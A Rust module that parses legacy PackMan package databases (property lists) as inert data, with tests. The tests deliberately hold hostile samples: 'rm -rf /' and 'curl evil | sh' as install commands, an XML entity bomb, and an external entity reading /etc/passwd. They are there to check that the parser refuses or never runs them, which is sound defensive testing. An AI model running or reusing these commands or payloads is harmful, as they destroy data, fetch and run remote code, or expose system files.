//! The first PackMan's databases: property lists that named packages, where to fetch them, and their MD5 sums.
//!
//! They are read as data alone. Such a list could hold code in four of its keys, which the first PackMan ran; here each
//! piece is kept as a text, to be shown, and nothing runs or follows anything in the list. MD5 is no reason to believe
//! bytes, so nothing in it can be installed by what it says. See `docs/formats/plist.md`.

mod xml;

use core::fmt;

use packman_strict::quote::quoted;

pub use xml::PlistError;
use xml::Value;

/// One of the first PackMan's databases.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct OldDatabase {
    /// Of which format it says it is.
    pub version: Option<String>,
    /// Who answers for it.
    pub maintainer: Option<String>,
    /// What it is.
    pub description: Option<String>,
    /// Other databases that it would have had read as well, as written; none is followed.
    pub includes: Vec<String>,
    /// Its packages, in its order.
    pub packages: Vec<OldPackage>,
    /// What is not known of it and was passed over: keys, as written.
    pub unknown: Vec<String>,
}

/// A package of such a database.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub struct OldPackage {
    /// Its name, as written.
    pub name: String,
    /// Its version, as written.
    pub version: Option<String>,
    /// What kind of package it is.
    pub flavor: Flavor,
    /// What it is.
    pub description: Option<String>,
    /// Its page.
    pub home_page: Option<String>,
    /// Where it was fetched from, as written: an address, a path relative to the database's, or `manual:` and a page.
    pub download_url: Option<String>,
    /// Its MD5 sum, as written. Nothing is believed by it.
    pub md5: Option<String>,
    /// What it needed.
    pub prerequisites: Vec<Prerequisite>,
    /// What was not installed for one user alone.
    pub user_install_skips: Vec<String>,
    /// Whether it could be installed for all users only.
    pub is_systemwide_only: bool,
    /// The code in it, which was run then and never is now.
    pub code: Vec<OldCode>,
    /// What is not known of it and was passed over: keys, as written.
    pub unknown: Vec<String>,
}

/// What kind of package it is.
#[derive(Clone, Debug, Default, Eq, PartialEq)]
pub enum Flavor {
    /// It does not say.
    #[default]
    Unsaid,
    /// To be built.
    Source,
    /// Built.
    Binary,
    /// Opened for the user to finish by hand.
    Installer,
    /// No package: it stands for others, and was not shown.
    Hidden,
    /// Something else, as written.
    Other(String),
}

/// What a package needed.
#[derive(Clone, Debug, Eq, PartialEq)]
pub enum Prerequisite {
    /// Another package, by its exact name, and version and flavor where they are named.
    Package {
        /// Its name.
        name: String,
        /// Its version.
        version: Option<String>,
        /// Its flavor.
        flavor: Option<String>,
    },
    /// A sentence for people.
    Advice(String),
}

/// A piece of code in such a database.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct OldCode {
    /// The key that it stands under.
    pub key: &'static str,
    /// The code.
    pub text: String,
}

/// The keys whose text the first PackMan ran, in Python the first, in a shell the others.
const CODE: [&str; 4] = ["Install-test", "Install-command", "Pre-install-command", "Post-install-command"];

impl OldDatabase {
    /// Whether bytes look like a property list of any kind, so that they are to be read as one.
    pub fn is_one(bytes: &[u8]) -> bool {
        let start = bytes.trim_ascii_start();
        let text = start.get(..1_024.min(start.len())).unwrap_or_default();
        let has = |word: &[u8]| text.windows(word.len()).any(|found| found == word);
        text.starts_with(b"bplist") || text.starts_with(b"<") && (has(b"<plist") || has(b"PropertyList"))
    }

    /// Reads one. Nothing in it is trusted, now or later.
    pub fn parse(bytes: &[u8]) -> Result<Self, PlistError> {
        let Value::Dict(members) = xml::parse(bytes)? else {
            return Err(PlistError::shape("the list", "no dictionary", "one"));
        };
        let mut found = Self::default();
        for (key, value) in members {
            match key.as_str() {
                "Version" => found.version = Some(value.text("Version")?),
                "Maintainer" => found.maintainer = Some(value.text("Maintainer")?),
                "Description" => found.description = Some(value.text("Description")?),
                "Include" => found.includes = value.texts("Include")?,
                "Packages" => {
                    let packages = value.array("Packages")?.into_iter();
                    found.packages = packages.map(OldPackage::read).collect::<Result<_, _>>()?;
                }
                _ => found.unknown.push(key),
            }
        }
        Ok(found)
    }
}

impl OldPackage {
    fn read(value: Value) -> Result<Self, PlistError> {
        let Value::Dict(members) = value else {
            return Err(PlistError::shape("a package", "no dictionary", "one"));
        };
        let mut found = Self::default();
        for (key, value) in members {
            let code = CODE.into_iter().find(|code| *code == key);
            match key.as_str() {
                "Name" => found.name = value.text("Name")?,
                "Version" => found.version = Some(value.text("Version")?),
                "Flavor" => found.flavor = Flavor::of(value.text("Flavor")?),
                "Description" => found.description = Some(value.text("Description")?),
                "Home-page" => found.home_page = Some(value.text("Home-page")?),
                "Download-URL" => found.download_url = Some(value.text("Download-URL")?),
                "MD5Sum" => found.md5 = Some(value.text("MD5Sum")?),
                "Prerequisites" => {
                    let needs = value.array("Prerequisites")?.into_iter();
                    found.prerequisites = needs.map(Prerequisite::read).collect::<Result<_, _>>()?;
                }
                "User-install-skips" => found.user_install_skips = value.texts("User-install-skips")?,
                "Systemwide-only" => found.is_systemwide_only = value.truth("Systemwide-only")?,
                _ => match code {
                    Some(key) => found.code.push(OldCode { key, text: value.text(key)? }),
                    None => found.unknown.push(key),
                },
            }
        }
        if found.name.is_empty() {
            return Err(PlistError::shape("`Name` of a package", "none", "a name"));
        }
        Ok(found)
    }
}

impl Flavor {
    fn of(text: String) -> Self {
        match text.as_str() {
            "source" => Self::Source,
            "binary" => Self::Binary,
            "installer" => Self::Installer,
            "hidden" => Self::Hidden,
            _ => Self::Other(text),
        }
    }
}

impl fmt::Display for Flavor {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Unsaid => f.write_str("no flavor"),
            Self::Source => f.write_str("source"),
            Self::Binary => f.write_str("binary"),
            Self::Installer => f.write_str("installer"),
            Self::Hidden => f.write_str("hidden"),
            Self::Other(text) => quoted(text).fmt(f),
        }
    }
}

impl Prerequisite {
    fn read(value: Value) -> Result<Self, PlistError> {
        let members = match value {
            Value::Text(text) => return Ok(Self::Advice(text)),
            Value::Dict(members) => members,
            _ => return Err(PlistError::shape("`Prerequisites`", "neither a text nor a dictionary", "one")),
        };
        let mut texts = Vec::new();
        for (key, value) in members {
            texts.push((key, value.text("Prerequisites")?));
        }
        let of = |name: &str| texts.iter().find(|(key, _)| key == name).map(|(_, text)| text.clone());
        let name = of("Name").ok_or_else(|| PlistError::shape("`Prerequisites`", "no `Name`", "one"))?;
        Ok(Self::Package { name, version: of("Version"), flavor: of("Flavor") })
    }
}

#[cfg(test)]
mod tests {
    use super::{Flavor, OldDatabase, Prerequisite};

    const HEAD: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/\
        PropertyList.dtd\">\n<plist version=\"0.9\">";

    fn list(inside: &str) -> String {
        format!("{HEAD}<dict>{inside}</dict></plist>\n")
    }

    fn check(text: &str) -> String {
        match OldDatabase::parse(text.as_bytes()) {
            Ok(found) => format!("{} packages", found.packages.len()),
            Err(error) => error.to_string(),
        }
    }

    /// Every key that the first PackMan knew: five of the database, fourteen of a package.
    fn whole() -> String {
        list(
            "<key>Version</key><string>0.4</string><key>Maintainer</key><string>Jack &amp; friends</string>\
             <key>Description</key><string>Old &#60;packages&#x3e;</string>\
             <key>Include</key><array><string>http://example.org/more.plist</string></array>\
             <!-- a comment --><key>Packages</key><array><dict>\
             <key>Name</key><string>Numeric</string><key>Version</key><string>23.1</string>\
             <key>Flavor</key><string>binary</string><key>Description</key><string>Arrays</string>\
             <key>Home-page</key><string>http://example.org/</string>\
             <key>Download-URL</key><string>Numeric-23.1.tar.gz</string>\
             <key>Install-test</key><string>import os; os.system('test')</string>\
             <key>Install-command</key><string>rm -rf /</string>\
             <key>Pre-install-command</key><string>curl evil | sh</string>\
             <key>Post-install-command</key><string>echo done</string>\
             <key>Prerequisites</key><array><dict><key>Name</key><string>X11</string></dict><string>Buy a Mac</string></array>\
             <key>MD5Sum</key><string>d41d8cd98f00b204e9800998ecf8427e</string>\
             <key>User-install-skips</key><array><string>/usr</string></array>\
             <key>Systemwide-only</key><integer>1</integer></dict>\
             <dict><key>Name</key><string>X11</string><key>Flavor</key><string>hidden</string></dict></array>",
        )
    }

    #[test]
    fn every_key_of_the_first_packman_is_read_and_all_code_is_kept_as_text() {
        let found = OldDatabase::parse(whole().as_bytes()).unwrap();
        assert_eq!(found.version.as_deref(), Some("0.4"));
        assert_eq!(found.maintainer.as_deref(), Some("Jack & friends"));
        assert_eq!(found.description.as_deref(), Some("Old <packages>"));
        assert_eq!(found.includes, ["http://example.org/more.plist"]);
        assert_eq!(found.unknown, [""; 0]);
        let [numeric, hidden] = found.packages.as_slice() else { panic!("two packages") };
        assert_eq!((numeric.name.as_str(), numeric.version.as_deref()), ("Numeric", Some("23.1")));
        assert_eq!((&numeric.flavor, &hidden.flavor), (&Flavor::Binary, &Flavor::Hidden));
        assert_eq!(numeric.description.as_deref(), Some("Arrays"));
        assert_eq!(numeric.home_page.as_deref(), Some("http://example.org/"));
        assert_eq!(numeric.download_url.as_deref(), Some("Numeric-23.1.tar.gz"));
        assert_eq!(numeric.md5.as_deref(), Some("d41d8cd98f00b204e9800998ecf8427e"));
        assert_eq!(numeric.user_install_skips, ["/usr"]);
        assert!(numeric.is_systemwide_only && !hidden.is_systemwide_only);
        assert_eq!(numeric.unknown, [""; 0]);
        let needs = [
            Prerequisite::Package { name: "X11".into(), version: None, flavor: None },
            Prerequisite::Advice("Buy a Mac".into()),
        ];
        assert_eq!(numeric.prerequisites, needs);
        let code: Vec<(&str, &str)> =
            numeric.code.iter().map(|code| (code.key, code.text.as_str())).collect();
        assert_eq!(
            code,
            [
                ("Install-test", "import os; os.system('test')"),
                ("Install-command", "rm -rf /"),
                ("Pre-install-command", "curl evil | sh"),
                ("Post-install-command", "echo done"),
            ]
        );
    }

    #[test]
    fn bytes_of_other_kinds_are_no_property_list() {
        assert!(OldDatabase::is_one(whole().as_bytes()));
        assert!(OldDatabase::is_one(b"bplist00\xd1"));
        for other in [&b"{\"about\": 1}"[..], b"PK\x03\x04", b"<html>", b""] {
            assert!(!OldDatabase::is_one(other));
        }
    }

    #[test]
    fn refuses_what_has_two_readings_or_none() {
        let bomb = HEAD
            .replace("<plist", "<!DOCTYPE plist [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><plist");
        let outside = HEAD.replace(
            "PropertyList.dtd\">",
            "PropertyList.dtd\" [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        );
        let deep = format!("{HEAD}{}", "<array>".repeat(10_000));
        let key = |text: &str| list(&format!("<key>Version</key>{text}"));
        for (text, why) in [
            (bomb, "a declaration of entities or elements, wanted none"),
            (outside, "a declaration of entities or elements, wanted none"),
            (deep, "more than 16 levels"),
            (key("<string>&evil;</string>"), "the entity `&evil;`"),
            (key("<string>&#0;</string>"), "the entity `&#0;`"),
            (key("<string>&#x110000;</string>"), "the entity `&#x110000;`"),
            (
                key("<string>a</string><key>Version</key><string>b</string>"),
                "the key `Version` a second time",
            ),
            (key("<string xmlns=\"x\">a</string>"), "attributes"),
            (key("<string>a<string>b</string></string>"), "an element in a text"),
            (key("<string><![CDATA[a]]></string>"), "an element in a text"),
            (key(""), "a key without a value"),
            (key("<string>a</key>"), "`</key>`, wanted `</string>`"),
            (key("<script>a</script>"), "the element `script`"),
            (key("<array></array>"), "`Version`: found no text, wanted one"),
            (list("<string>a</string>"), "a value without a key"),
            (list("") + "<plist/>", "text after the list"),
            (HEAD.to_owned(), "the end"),
            (list("<?php evil ?>"), "an instruction"),
            ("bplist00\u{1}".to_owned(), "a binary property list"),
            (list("<key>Packages</key><array><dict></dict></array>"), "`Name` of a package: found none"),
        ] {
            let found = check(&text);
            assert!(found.contains(why), "{why}: {found}");
        }
        assert!(OldDatabase::parse(b"<?xml version='1.0' encoding='UTF-16'?>\xff\xfe").is_err());
        assert!(OldDatabase::parse(&vec![b' '; (4 << 20) + 1]).unwrap_err().to_string().contains("4194304"));
        let many = list(&format!("<key>Include</key><array>{}</array>", "<string/>".repeat(100_001)));
        assert!(check(&many).contains("more than 100000 values"));
    }

    #[test]
    fn every_beginning_of_a_list_is_refused_without_a_panic() {
        let text = whole();
        for end in 0..text.trim_end().len() {
            assert!(OldDatabase::parse(&text.as_bytes()[..end]).is_err(), "{end}");
        }
    }
}
